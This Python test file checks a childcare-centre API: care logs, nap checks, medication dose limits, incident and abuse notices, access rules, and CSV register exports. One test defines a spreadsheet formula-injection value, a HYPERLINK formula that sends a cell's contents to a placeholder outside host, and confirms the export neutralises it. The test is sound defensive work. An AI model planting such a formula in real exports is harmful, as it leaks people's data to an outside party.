"""The day between drop-off and pick-up: one-tap care for the room, naps, medication against the
guardian's authorisation, incidents told at once, and who may read a child's day."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

from backend.clock import Clock
from tests.api.attendance_world import (
    NINE,
    Room,
    at,
    attending_room,
    caregiver_of,
    check_in,
    check_out_body,
    visit_with_words,
)
from tests.api.booking_world import bookable_room, booking_body, put
from tests.api.days import DAY
from tests.api.world import PASSWORD, World, idem, new_phone

DAY_PATH = "/v1/children/{}/days/" + DAY


async def _care(world: World, room, who=None, **body):
    body = {"room_id": str(room.room_id), "at": at(body.pop("minutes", 0)), **body}
    return await world.post("/v1/attendance/care-logs", body, who or room.caregiver)


async def test_lunch_served_to_all_present_reaches_each_childs_day_in_local_time(world: World):
    room = await attending_room(world, children=2)
    for child in room.children:
        await check_in(world, room, child)
    world.runtime.clock.at = NINE + timedelta(hours=2)  # type: ignore[attr-defined]
    response = await _care(world, room, kind="meal", meal="lunch", amount="most", minutes=110)
    assert response.status_code == 201, response.text
    for child in room.children:
        day = (await world.client.get(DAY_PATH.format(child),
                                      headers=world.fresh(room.guardian.headers))).json()  # fmt: skip
        assert [(e["time"], e["title"]) for e in day["entries"]] == [
            ("09:00", "入园"), ("10:50", "进餐"),
        ]  # fmt: skip
        assert day["entries"][1]["detail"] == "午餐，吃了大部分"
        assert day["timezone"] == "Asia/Shanghai"
    live = (await world.client.get(f"/v1/institutions/{room.institution_id}/occupancy/live",
                                   headers=world.fresh(room.admin.headers))).json()  # fmt: skip
    assert {c["age_class"] for c in live["rooms"][0]["children"]} == {"托小班"}


async def test_a_nap_is_logged_in_order_and_a_check_before_it_starts_is_refused(world: World):
    room = await attending_room(world)
    child = str(room.children[0])
    await check_in(world, room, room.children[0])
    early = await _care(world, room, kind="nap_check", child_ids=[child])
    assert early.status_code == 409 and early.json()["type"] == "/problems/nap-sequence"
    live_path = f"/v1/institutions/{room.institution_id}/occupancy/live"
    await _care(world, room, kind="nap_start", child_ids=[child])
    world.runtime.clock.at = NINE + timedelta(minutes=16)  # type: ignore[attr-defined]
    live = (await world.client.get(live_path, headers=world.fresh(room.admin.headers))).json()
    assert live["rooms"][0]["nap_checks_overdue"] == 1  # asleep 16 minutes, never checked
    for kind in ("nap_check", "nap_end"):
        response = await _care(world, room, kind=kind, child_ids=[child], note="呼吸平稳",
                               minutes=16)  # fmt: skip
        assert response.status_code == 201, response.text
    live = (await world.client.get(live_path, headers=world.fresh(room.admin.headers))).json()
    assert live["rooms"][0]["nap_checks_overdue"] == 0
    day = (await world.client.get(DAY_PATH.format(child),
                                  headers=world.fresh(room.guardian.headers))).json()  # fmt: skip
    assert [(e["kind"], e["by"]) for e in day["entries"]] == [
        ("check_in", "张老师"), ("nap_start", "张老师"), ("nap_check", "张老师"),
        ("nap_end", "张老师"),
    ]  # fmt: skip


async def test_an_institution_checking_naps_every_ten_minutes_sees_eleven_unchecked_flagged(
    world: World,
):
    _, _, other_admin = await bookable_room(world)  # signed in before the clock moves
    room = await attending_room(world)
    settings_path = f"/v1/institutions/{room.institution_id}/booking-settings"
    live_path = f"/v1/institutions/{room.institution_id}/occupancy/live"

    async def overdue() -> int:
        await world.runtime.projector.wait_until(await world.runtime.store.head_position())
        live = await world.client.get(live_path, headers=world.fresh(room.admin.headers))
        return int(live.json()["rooms"][0]["nap_checks_overdue"])

    await check_in(world, room, room.children[0])
    await _care(world, room, kind="nap_start", child_ids=[str(room.children[0])])
    world.runtime.clock.at = NINE + timedelta(minutes=11)  # type: ignore[attr-defined]
    assert await overdue() == 0  # the default: every 15 minutes
    read = await world.client.get(settings_path, headers=world.fresh(room.caregiver.headers))
    assert read.status_code == 200 and read.json()["nap_check_minutes"] == 15
    await put(world, settings_path, {"nap_check_minutes": 10}, room.admin)
    assert await overdue() == 1
    read = await world.client.get(settings_path, headers=world.fresh(room.caregiver.headers))
    assert read.json()["nap_check_minutes"] == 10
    assert read.json()["no_show_after_minutes"] == 30  # the rest as the defaults
    for stranger in (room.guardian, other_admin):
        refused = await world.client.get(settings_path, headers=world.fresh(stranger.headers))
        assert refused.status_code == 403, refused.text
    carer_put = await world.client.put(settings_path, json={"nap_check_minutes": 5},
                                       headers={**world.fresh(room.caregiver.headers), **idem()})  # fmt: skip
    assert carer_put.status_code == 403


async def test_medication_needs_the_guardians_authorisation_and_stops_at_its_doses(world: World):
    room = await attending_room(world)
    child = room.children[0]
    await check_in(world, room, child)
    unauthorised = await _care(world, room, kind="medication", child_ids=[str(child)])
    assert unauthorised.status_code == 422 and unauthorised.json()["field"] == "authorisation_id"
    by_carer = await world.post(f"/v1/children/{child}/medication-authorisations",
                          {"medicine": "布洛芬", "dose": "5 ml", "max_doses_per_day": 1,
                           "first_day": DAY, "last_day": DAY}, room.caregiver)  # fmt: skip
    assert by_carer.status_code == 403
    authorised = await world.post(f"/v1/children/{child}/medication-authorisations",
                            {"medicine": "布洛芬", "dose": "5 ml", "max_doses_per_day": 1,
                             "first_day": DAY, "last_day": DAY}, room.guardian)  # fmt: skip
    assert authorised.status_code == 201, authorised.text
    authorisation = authorised.json()["id"]
    dose = {"kind": "medication", "child_ids": [str(child)], "authorisation_id": authorisation}
    double = await _care(world, room, **dose, dose="10 ml")
    assert double.status_code == 409 and double.json()["field"] == "dose", double.text
    assert (await _care(world, room, **dose)).status_code == 201
    second = await _care(world, room, **dose)
    assert second.status_code == 409 and second.json()["type"] == "/problems/medication-dose-limit"
    notes = await _notices(world, room.guardian)
    assert notes[0]["kind"] == "medication" and "布洛芬 5 ml" in notes[0]["body"]


async def test_a_days_doses_are_counted_across_the_institutions_caring_for_the_child(
    world: World,
):
    """Morning at one institution, afternoon at another: the guardian allowed one dose a day."""
    other_id, other_room, other_admin = await bookable_room(world)
    other_carer = await caregiver_of(world, other_id, other_admin)
    room = await attending_room(world)
    [child] = room.children
    afternoon = booking_body(other_id, other_room, child, "13:00", "15:00")
    assert (await world.post("/v1/bookings", afternoon, room.guardian)).status_code == 201
    authorised = await world.post(
        f"/v1/children/{child}/medication-authorisations",
        {"medicine": "布洛芬混悬液", "dose": "5 ml", "max_doses_per_day": 1, "first_day": DAY,
         "last_day": DAY}, room.guardian,
    )  # fmt: skip
    assert authorised.status_code == 201, authorised.text
    assert (await check_in(world, room, child)).status_code == 201
    world.runtime.clock.at = NINE + timedelta(minutes=31)  # type: ignore[attr-defined]
    dose = {"room_id": str(room.room_id), "kind": "medication", "at": at(30),
            "child_ids": [str(child)], "authorisation_id": authorised.json()["id"]}  # fmt: skip
    assert (await world.post("/v1/attendance/care-logs", dose, room.caregiver)).status_code == 201

    world.runtime.clock.at = NINE + timedelta(hours=5)  # type: ignore[attr-defined]  # 14:00
    out = await world.post("/v1/attendance/check-outs",
                           check_out_body(room, child, room.guardian.phone, minutes=60),
                           room.caregiver)  # fmt: skip
    assert out.status_code == 201, out.text
    clocked_in = await world.post("/v1/staff/clock-ins",
                                  {"room_id": str(other_room), "at": at(4 * 60)}, other_carer)  # fmt: skip
    assert clocked_in.status_code == 201, clocked_in.text
    arrived = await world.post("/v1/attendance/check-ins", {
        "child_id": str(child), "room_id": str(other_room), "at": at(4 * 60 + 5),
        "health_check": {"temperature_c": 36.6}, "method": "manual"}, other_carer)  # fmt: skip
    assert arrived.status_code == 201, arrived.text
    second = {**dose, "room_id": str(other_room), "at": at(4 * 60 + 30)}
    again = await world.post("/v1/attendance/care-logs", second, other_carer)
    assert again.status_code == 409, again.text
    assert again.json()["type"] == "/problems/medication-dose-limit"


async def _notices(world: World, who) -> list[dict]:
    return (await world.client.get("/v1/notifications",
                                   headers=world.fresh(who.headers))).json()  # fmt: skip


async def _report_incident(world: World, room, *, category: str, note: str, minutes: int):
    """The room's first child arrives at 09:00; a carer logs an incident `minutes` later."""
    child = room.children[0]
    await check_in(world, room, child)
    world.runtime.clock.at = NINE + timedelta(minutes=minutes + 5)  # type: ignore[attr-defined]
    response = await _care(world, room, kind="incident", category=category, minutes=minutes,
                           child_ids=[str(child)], note=note)  # fmt: skip
    assert response.status_code == 201, response.text


async def test_an_incident_tells_the_guardian_at_once_with_its_time(world: World):
    room = await attending_room(world)
    await _report_incident(world, room, category="fall", minutes=35,
                           note="滑梯旁摔倒，膝盖擦伤，已消毒")  # fmt: skip
    notes = await _notices(world, room.guardian)
    assert notes[0]["kind"] == "incident"
    assert notes[0]["body"].startswith("09:35 小宝：摔倒，滑梯旁摔倒")


async def test_a_suspected_abuse_report_reaches_the_guardian_and_the_institutions_admin(
    world: World,
):
    room = await attending_room(world)
    await _report_incident(world, room, category="suspected_abuse", minutes=20,
                           note="手臂有不明淤青")  # fmt: skip
    told = {
        name: [(n["kind"], "手臂有不明淤青" in n["body"])
               for n in await _notices(world, getattr(room, name))]
        for name in ("guardian", "admin", "caregiver")
    }  # fmt: skip
    assert told["guardian"][0] == ("incident", True)
    assert told["admin"] == [("incident", True)]
    assert told["caregiver"] == []


async def _another_admin(world: World, room) -> Any:
    frozen, world.runtime.clock = world.runtime.clock, Clock()  # tokens: on the real clock
    try:
        phone = new_phone("138")
        body = {"phone": phone, "display_name": "二园长", "password": PASSWORD,
                "role": "institution_admin"}  # fmt: skip
        added = await world.post(f"/v1/institutions/{room.institution_id}/staff", body, room.admin)
        assert added.status_code == 201, added.text
        return await world.login(phone)
    finally:
        world.runtime.clock = frozen


async def test_an_admin_removed_from_the_staff_no_longer_reads_the_abuse_report_naming_the_child(
    world: World,
):
    room = await attending_room(world)
    second = await _another_admin(world, room)
    await _report_incident(world, room, category="suspected_abuse", minutes=20,
                           note="手臂有不明淤青")  # fmt: skip
    assert [n["kind"] for n in await _notices(world, second)] == ["incident"]
    removed = await world.client.delete(
        f"/v1/institutions/{room.institution_id}/staff/{second.account_id}",
        headers={**world.fresh(room.admin.headers), **idem()},
    )
    assert world.saw(removed).status_code == 200, removed.text
    assert await _notices(world, second) == []
    assert [n["kind"] for n in await _notices(world, room.admin)] == ["incident"]


async def test_notices_go_to_the_family_and_admins_of_their_moment_and_a_rebuild_agrees(
    world: World,
):
    """An admin and a second guardian who join after an abuse report are not told of it, nor
    of the arrival before it; rebuilt from the events, the notices are the same rows."""
    room = await attending_room(world)
    await _report_incident(world, room, category="suspected_abuse", minutes=20,
                           note="手臂有不明淤青")  # fmt: skip
    later_admin = await _another_admin(world, room)
    phone = new_phone("136")
    added = await world.post(f"/v1/children/{room.children[0]}/guardians",
                             {"phone": phone, "display_name": "孩子爸爸"}, room.guardian)  # fmt: skip
    assert added.status_code == 201, added.text
    frozen, world.runtime.clock = world.runtime.clock, Clock()  # tokens: on the real clock
    try:
        father = await world.guardian(phone)
    finally:
        world.runtime.clock = frozen
    assert await _notices(world, later_admin) == []
    assert await _notices(world, father) == []
    assert {n["kind"] for n in await _notices(world, room.guardian)} >= {"check_in", "incident"}
    projector = world.runtime.projector
    await projector.wait_until(await world.runtime.store.head_position())
    model = next(p for p in projector.projections if p.name == "notifications")
    live = await world.runtime.pool.fetch("SELECT * FROM rm_notifications ORDER BY 1, 2")
    await projector.rebuild(model)
    assert await world.runtime.pool.fetch("SELECT * FROM rm_notifications ORDER BY 1, 2") == live


async def test_care_for_a_child_not_present_is_refused(world: World):
    room = await attending_room(world, children=2)
    await check_in(world, room, room.children[0])
    response = await _care(world, room, kind="toileting", toileting="wet",
                           child_ids=[str(room.children[1])])  # fmt: skip
    assert response.status_code == 409 and response.json()["type"] == "/problems/child-not-present"


async def test_a_childs_day_is_refused_to_another_family_another_institution_and_a_regulator(
    world: World,
):
    other_id, other_admin = await world.institution()
    outsiders = [
        await world.guardian(), await caregiver_of(world, other_id, other_admin), other_admin,
        await world.regulator(),
    ]  # fmt: skip
    room = await attending_room(world)
    child = room.children[0]
    await check_in(world, room, child)
    for outsider in outsiders:
        response = await world.client.get(DAY_PATH.format(child),
                                          headers=world.fresh(outsider.headers))  # fmt: skip
        assert response.status_code == 403, outsider
    staff_read = await world.client.get(DAY_PATH.format(child),
                                        headers=world.fresh(room.caregiver.headers))  # fmt: skip
    assert staff_read.status_code == 200
    log = (await world.client.get(f"/v1/children/{child}/access-log",
                                  headers=world.fresh(room.guardian.headers))).json()  # fmt: skip
    assert [r["purpose"] for r in log] == ["child's day"]


async def test_staff_read_a_childs_day_until_thirty_days_after_it_and_the_guardian_always(
    world: World,
):
    room = await attending_room(world)
    child = room.children[0]
    await check_in(world, room, child)

    async def read_on(days_later: int, who) -> int:
        world.runtime.clock.at = NINE + timedelta(days=days_later)  # type: ignore[attr-defined]
        response = await world.client.get(DAY_PATH.format(child),
                                          headers=world.fresh(who.headers))  # fmt: skip
        return response.status_code

    assert [await read_on(d, room.caregiver) for d in (0, 30, 31)] == [200, 200, 403]
    assert await read_on(400, room.guardian) == 200


async def test_staff_seeing_a_childs_name_in_the_live_view_is_logged_once_a_day_each(
    world: World,
):
    room = await attending_room(world)
    child = room.children[0]
    await check_in(world, room, child)
    live = f"/v1/institutions/{room.institution_id}/occupancy/live"
    for reader in (room.admin, room.admin, room.caregiver, room.admin):
        shown = await world.client.get(live, headers=world.fresh(reader.headers))
        assert [c["name"] for r in shown.json()["rooms"] for c in r["children"]] == ["小宝"]
    log = (await world.client.get(f"/v1/children/{child}/access-log",
                                  headers=world.fresh(room.guardian.headers))).json()  # fmt: skip
    assert sorted((r["role"], r["purpose"]) for r in log) == [
        ("caregiver", "live occupancy"), ("institution_admin", "live occupancy"),
    ]  # fmt: skip


async def test_staff_read_only_their_own_institutions_part_of_a_day_spent_at_two(world: World):
    second_id, second_room_id, second_admin = await bookable_room(world)
    second_carer = await caregiver_of(world, second_id, second_admin)
    room = await attending_room(world)  # the morning, 09:00–11:00; the clock is now 09:00
    child = room.children[0]
    afternoon = booking_body(second_id, second_room_id, child, start="14:00", end="16:00")
    booked = await world.post("/v1/bookings", afternoon, room.guardian)
    assert booked.status_code == 201, booked.text
    second = Room(second_id, second_room_id, second_admin, second_carer, room.guardian, [child],
                  [booked.json()["id"]])  # fmt: skip
    await check_in(world, room, child)
    world.runtime.clock.at = NINE + timedelta(hours=2)  # type: ignore[attr-defined]
    collected = await world.post("/v1/attendance/check-outs",
                                 check_out_body(room, child, room.guardian.phone, minutes=120),
                                 room.caregiver)  # fmt: skip
    assert collected.status_code == 201, collected.text
    world.runtime.clock.at = NINE + timedelta(hours=5)  # type: ignore[attr-defined]
    clocked = await world.post("/v1/staff/clock-ins",
                               {"room_id": str(second_room_id), "at": at(300)}, second_carer)  # fmt: skip
    assert clocked.status_code == 201, clocked.text
    assert (await check_in(world, second, child, minutes=300)).status_code == 201

    async def times(reader) -> list[str]:
        response = await world.client.get(DAY_PATH.format(child),
                                          headers=world.fresh(reader.headers))  # fmt: skip
        assert response.status_code == 200, response.text
        return [e["time"] for e in response.json()["entries"]]

    assert await times(room.guardian) == ["09:00", "11:00", "14:00"]
    assert await times(room.caregiver) == ["09:00", "11:00"]
    assert await times(room.admin) == ["09:00", "11:00"]
    assert await times(second_carer) == ["14:00"]


async def test_staff_of_another_institution_cannot_check_in_clock_in_or_watch(world: World):
    other_id, other_admin = await world.institution()
    stranger = await caregiver_of(world, other_id, other_admin)
    regulator = await world.regulator()
    room = await attending_room(world)
    assert (await check_in(world, room, room.children[0], who=stranger)).status_code == 403
    clock = await world.post("/v1/staff/clock-ins", {"room_id": str(room.room_id), "at": at()},
                       stranger)  # fmt: skip
    assert clock.status_code == 403
    live = f"/v1/institutions/{room.institution_id}/occupancy/live"
    for outsider in (stranger, room.guardian, regulator):
        response = await world.client.get(live, headers=world.fresh(outsider.headers))
        assert response.status_code == 403


async def test_the_register_exports_csv_with_names_for_staff_and_pseudonyms_for_the_regulator(
    world: World,
):
    regulator, elsewhere = await world.regulator("gusu"), await world.regulator("wuzhong")
    room = await attending_room(world)
    await check_in(world, room, room.children[0])
    path = f"/v1/rooms/{room.room_id}/attendance.csv?date={DAY}"
    staff_csv = await world.client.get(path, headers=world.fresh(room.admin.headers))
    assert staff_csv.status_code == 200
    assert staff_csv.headers["content-type"].startswith("text/csv")
    lines = staff_csv.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("幼儿,入园时间") and lines[1].startswith("小宝,09:00,张老师,manual")
    regulator_csv = await world.client.get(path, headers=world.fresh(regulator.headers))
    assert regulator_csv.status_code == 200
    assert "小宝" not in regulator_csv.text and "幼儿-" in regulator_csv.text
    assert (await world.client.get(path, headers=world.fresh(elsewhere.headers))).status_code == 403


async def test_the_regulator_reads_the_register_without_the_words_staff_wrote_about_the_child(
    world: World,
):
    regulator = await world.regulator("gusu")
    room = await attending_room(world, clock_in=False)  # nobody clocked in: the admin overrides
    [child] = room.children
    words = "小宝妈妈说小宝昨晚发烧"
    await visit_with_words(world, room, child, words)
    register = f"/v1/rooms/{room.room_id}/attendance?date={DAY}"
    staff = await world.client.get(register, headers=world.fresh(room.admin.headers))
    assert [r["note"] for r in staff.json()] == [words]  # staff read what they wrote
    seen = await world.client.get(register, headers=world.fresh(regulator.headers))
    assert seen.status_code == 200, seen.text
    [visit] = seen.json()
    free_text = ("note", "override_reason", "correction_reason", "observations")
    assert [visit[field] for field in free_text] == ["", "", "", ""]
    assert visit["checked_in"] == "08:55" and visit["child"].startswith("幼儿-")
    exported = await world.client.get(register.replace("attendance?", "attendance.csv?"),
                                 headers=world.fresh(regulator.headers))  # fmt: skip
    assert exported.status_code == 200 and "08:55" in exported.text
    assert "小宝" not in exported.text and "发烧" not in exported.text


FORMULA = '=HYPERLINK("http://x.example/?"&A2,"ok")'


async def test_the_register_csv_gives_a_name_typed_as_a_formula_to_the_spreadsheet_as_text(
    world: World,
):
    room = await attending_room(world)
    child = room.children[0]
    assert (await check_in(world, room, child)).status_code == 201
    world.runtime.clock.at = NINE + timedelta(hours=1)  # type: ignore[attr-defined]
    named = await world.post(f"/v1/children/{child}/delegates",
                             {"name": FORMULA, "phone": "13900002222", "day": DAY},
                             room.guardian)  # fmt: skip
    assert named.status_code == 201, named.text
    out = await world.post(
        "/v1/attendance/check-outs",
        check_out_body(room, child, "13900002222", 30,
                       collector={"name": "陈明", "phone": "13900002222",
                                  "identity_check": "id_card"}),
        room.caregiver,
    )  # fmt: skip
    assert out.status_code == 201, out.text
    path = f"/v1/rooms/{room.room_id}/attendance.csv?date={DAY}"
    response = await world.client.get(path, headers=world.fresh(room.admin.headers))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert any(c.startswith(f"'{FORMULA}") for c in cells), cells  # as the family typed it


async def test_what_the_carer_saw_at_the_morning_check_reaches_the_register_the_day_and_the_family(
    world: World,
):
    room = await attending_room(world)
    [child] = room.children
    seen = '右臂淤青，家长称"摔倒"\n=已拍照'
    arrived = await check_in(
        world, room, child, health_check={"temperature_c": 36.6, "look_ok": False,
                                          "observations": seen},
        abnormal_outcome="admit_with_note", note="已告知家长",
    )  # fmt: skip
    assert arrived.status_code == 201, arrived.text
    register = f"/v1/rooms/{room.room_id}/attendance?date={DAY}"
    [row] = (await world.client.get(register, headers=world.fresh(room.admin.headers))).json()
    assert row["observations"] == seen and "淤青" not in row["morning_check"]
    exported = await world.client.get(register.replace("attendance?", "attendance.csv?"),
                                      headers=world.fresh(room.admin.headers))  # fmt: skip
    header, line = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    assert line[header.index("晨检观察")] == seen  # quoted by the csv module, not a formula
    day = (await world.client.get(DAY_PATH.format(child),
                                  headers=world.fresh(room.guardian.headers))).json()  # fmt: skip
    assert any("观察：右臂淤青" in entry["detail"] for entry in day["entries"]), day
    [notice] = [n for n in await _notices(world, room.guardian) if n["kind"] != "booked"]
    assert "观察：右臂淤青" in notice["body"], notice
